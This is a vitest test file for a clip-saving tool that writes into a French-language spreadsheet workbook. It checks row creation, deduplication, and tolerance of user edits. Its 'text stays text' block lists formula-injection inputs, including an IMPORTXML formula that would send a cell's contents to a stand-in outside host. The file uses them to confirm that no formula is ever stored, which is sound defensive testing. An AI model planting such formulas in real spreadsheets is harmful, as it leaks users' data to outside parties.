import { describe, expect, test } from 'vitest';
import { aClip } from './opened-vigie.ts';
import { withMarie } from './with-marie.ts';

const desk = withMarie('test');

describe('clips.save', () => {
  test('a clip is a row: what, where, access and its proof, who, when', async () => {
    const clip = aClip({
      title: 'Le prêt numérique',
      url: 'https://exemple.fr/pret',
      note: 'à proposer',
      themes: ['presse', 'langues'],
    });
    const [receipt] = await desk.vigie.saveClips(desk.marie, clip);
    expect(receipt).toMatchObject({ id: clip.id, outcome: 'created', row: 2 });
    expect(receipt?.link).toMatch(/#gid=\d+&range=A2$/);
    expect(desk.vigie.rows('Ressources')).toMatchObject([
      {
        Titre: 'Le prêt numérique',
        Adresse: 'https://exemple.fr/pret',
        Éditeur: 'Éditeur d’exemple',
        'Publié le': '05/03/2024',
        Accès: 'Payant',
        'Preuve de l’accès': expect.stringContaining('isAccessibleForFree: false'),
        Thèmes: 'presse, langues',
        Note: 'à proposer',
        'Relevé par': 'Marie',
        'Relevé le': '24/11/2026 09:59',
        Statut: 'à trier',
        Identifiant: receipt?.rowId,
      },
    ]);
    expect(desk.vigie.rows('Sources')).toMatchObject([{ Source: 'Éditeur d’exemple', Site: 'exemple.fr' }]);
  });

  test('what the person chose wins, and the row says so', async () => {
    const clip = aClip({ title: 'Lu' });
    clip.chosen = { ...clip.chosen, title: 'Choisi', access: 'free', published: '' };
    await desk.vigie.saveClips(desk.marie, clip);
    const [row] = desk.vigie.rows('Ressources');
    expect(row).toMatchObject({ Titre: 'Choisi', Accès: 'Gratuit', 'Publié le': '' });
    expect(row?.['Preuve de l’accès']).toMatch(/^Choisi par Marie le 24\/11\/2026\nLecture : Payant/);
  });

  test('the same id again: the same receipt, one row', async () => {
    const clip = aClip();
    const [first] = await desk.vigie.saveClips(desk.marie, clip);
    await desk.vigie.saveClips(desk.marie, aClip());
    const [again] = await desk.vigie.saveClips(desk.marie, clip);
    expect(again).toEqual(first);
    const [twice, both] = await desk.vigie.saveClips(desk.marie, clip, clip);
    expect([twice, both]).toEqual([first, first]);
    expect(desk.vigie.rows('Ressources')).toHaveLength(2);
    expect(desk.vigie.rows('Avis')).toHaveLength(0);
  });

  test('a known address becomes an opinion, in another batch or in the same one', async () => {
    const first = aClip({ url: 'https://www.exemple.fr/a/', note: 'trop cher', title: 'A' });
    const [created] = await desk.vigie.saveClips(desk.marie, first);
    const luc = (await desk.vigie.pairedMember('Luc')).token;
    const second = aClip({ url: 'http://exemple.fr/a', note: 'pas si cher' });
    const other = aClip({ url: 'https://exemple.fr/b', title: 'B', note: 'un' });
    const twin = aClip({ url: 'https://exemple.fr/b#haut', note: 'deux' });
    const receipts = await desk.vigie.saveClips(luc, second, other, twin);
    expect(receipts.map(({ outcome }) => outcome)).toEqual(['known', 'created', 'known']);
    expect(receipts[0]).toMatchObject({
      rowId: created?.rowId,
      row: 2,
      known: { by: 'Marie', at: '2026-11-24', opinion: 'trop cher' },
    });
    expect(receipts[2]).toMatchObject({ rowId: receipts[1]?.rowId, row: 3, known: { by: 'Luc', opinion: 'un' } });
    expect(desk.vigie.rows('Ressources')).toHaveLength(2);
    expect(desk.vigie.rows('Avis')).toMatchObject([
      { Ressource: 'A', Avis: 'pas si cher', 'Donné par': 'Luc', 'Identifiant de la ressource': created?.rowId },
      { Ressource: 'B', Avis: 'deux', 'Donné par': 'Luc' },
    ]);
    expect(await desk.vigie.saveClips(luc, second)).toEqual([receipts[0]]);
  });

  test('what is told of a known resource is what the row says now', async () => {
    await desk.vigie.saveClips(desk.marie, aClip({ url: 'https://exemple.fr/a', note: 'trop cher' }));
    await desk.vigie.run('peopleType', ['Ressources', 2, 'Note', 'tarif négocié']);
    const [receipt] = await desk.vigie.saveClips(desk.marie, aClip({ url: 'https://exemple.fr/a' }));
    expect(receipt?.known?.opinion).toBe('tarif négocié');
  });

  test('a row that was deleted meanwhile: late repeats say so and add nothing, a new clip makes a new row', async () => {
    const clip = aClip({ url: 'https://exemple.fr/a' });
    await desk.vigie.saveClips(desk.marie, clip, aClip());
    await desk.vigie.run('peopleDeleteRow', ['Ressources', 2]);
    const [late] = await desk.vigie.saveClips(desk.marie, clip);
    expect(late).toMatchObject({
      outcome: 'created',
      message: expect.stringMatching(/supprimée.*Relevez la page à nouveau/),
    });
    expect(desk.vigie.rows('Ressources')).toHaveLength(1);
    const [fresh] = await desk.vigie.saveClips(desk.marie, aClip({ url: 'https://exemple.fr/a' }));
    expect(fresh?.outcome).toBe('created');
    expect(desk.vigie.rows('Ressources')).toHaveLength(2);
  });

  test('a feed that the page offers is proposed in Flux, once, and not polled', async () => {
    const clip = aClip();
    const feeds = [{ url: 'https://exemple.fr/feed', title: '=1+1', format: 'rss' as const }];
    clip.reading.feeds = { value: feeds, confidence: 1, evidence: [] };
    const twin = { ...aClip(), reading: { ...aClip().reading, feeds: clip.reading.feeds } };
    await desk.vigie.saveClips(desk.marie, clip, twin);
    expect(desk.vigie.rows('Flux')).toMatchObject([
      { Flux: '=1+1', Adresse: 'https://exemple.fr/feed', État: 'proposé' },
    ]);
    const report = await desk.vigie.run<{ feeds: number }>('pollFeedsNow');
    expect(report.feeds).toBe(0);
  });
});

describe('people edit the workbook', () => {
  test('renamed headers, an inserted column, a moved tab: everything still lands in its place', async () => {
    await desk.vigie.run('peopleRenameHeader', ['Ressources', 'Titre', 'Quoi']);
    await desk.vigie.run('peopleInsertColumn', ['Ressources', 'Accès', 'À nous']);
    await desk.vigie.run('peopleRenameTab', ['Ressources', 'Nos REL']);
    const clip = aClip({ title: 'A', url: 'https://exemple.fr/a' });
    await desk.vigie.saveClips(desk.marie, clip);
    await desk.vigie.run('peopleType', ['Nos REL', 2, 'À nous', 'notre mot']);
    await desk.vigie.saveClips(desk.marie, aClip({ title: 'B' }), clip);
    expect(desk.vigie.rows('Nos REL')).toMatchObject([
      { Quoi: 'A', Accès: 'Payant', 'À nous': 'notre mot' },
      { Quoi: 'B', Accès: 'Payant', 'À nous': '' },
    ]);
  });

  test('a deleted column is left out of what is written; the rest is kept', async () => {
    await desk.vigie.run('peopleDeleteColumn', ['Ressources', 'Éditeur']);
    const [receipt] = await desk.vigie.saveClips(desk.marie, aClip({ title: 'A' }));
    expect(receipt?.outcome).toBe('created');
    expect(desk.vigie.rows('Ressources')[0]).not.toHaveProperty('Éditeur');
    expect(desk.vigie.rows('Ressources')[0]).toMatchObject({ Titre: 'A', Accès: 'Payant' });
  });

  test('a line typed below by hand is never overwritten', async () => {
    await desk.vigie.run('peopleAppend', ['Ressources', { Titre: 'à la main' }]);
    await desk.vigie.saveClips(desk.marie, aClip({ title: 'B' }));
    expect(desk.vigie.rows('Ressources').map((row) => row.Titre)).toEqual(['à la main', 'B']);
  });

  test('a deleted tab is said, and the clip can be sent again once it is back', async () => {
    const clip = aClip();
    await desk.vigie.run('peopleDeleteTab', ['Avis']);
    const { reply } = await desk.vigie.post(desk.vigie.envelope('clips.save', { clips: [clip] }, desk.marie));
    expect(reply).toMatchObject({ ok: false, code: 'not-installed' });
    expect(reply.message).toContain('Avis');
    await desk.vigie.run('install');
    const [receipt] = await desk.vigie.saveClips(desk.marie, clip);
    expect(receipt?.outcome).toBe('created');
    expect(desk.vigie.rows('Ressources')).toHaveLength(1);
  });

  test('a tab that only goes with the clips, deleted, does not keep them from being saved', async () => {
    await desk.vigie.run('peopleDeleteTab', ['Sources']);
    const [receipt] = await desk.vigie.saveClips(desk.marie, aClip());
    expect(receipt?.outcome).toBe('created');
    expect(desk.vigie.rows('Accusés')).toHaveLength(1);
  });
});

describe('text stays text', () => {
  const HOSTILE = '=IMPORTXML("https://x.test/?"&A1)';
  test.each([
    HOSTILE,
    '+33 1 02 03',
    '-1',
    '@SUM(A1)',
    '001',
    '12/03/2024',
    'VRAI',
    "'ouvert'",
    '\t=1+1',
    '\u200b=1+1',
  ])('%j', async (text) => {
    const clip = aClip({ title: text.trim() === '' ? HOSTILE : text, note: text, themes: [text.slice(0, 60)] });
    clip.reading.publisher = { value: text, confidence: 1, evidence: [] };
    clip.source.facts = [{ block: 'publisher', key: 'publisher-name', state: 'found', value: text, evidence: [] }];
    await desk.vigie.saveClips(desk.marie, clip, aClip({ url: clip.reading.canonicalUrl.value, note: text }));
    for (const tab of ['Ressources', 'Avis', 'Sources', 'Accusés', 'Journal']) {
      const { formulas, values } = desk.vigie.host.workbook.read(tab);
      expect(
        formulas.flat().filter((formula) => formula !== ''),
        tab,
      ).toEqual([]);
      for (const value of values.flat()) expect(String(value), tab).not.toMatch(/^#(?:ERROR|NAME|REF)/);
    }
    const [row] = desk.vigie.rows('Ressources');
    expect(row?.Note).toBe(text);
    expect(row?.Éditeur).toBe(text);
  });
});
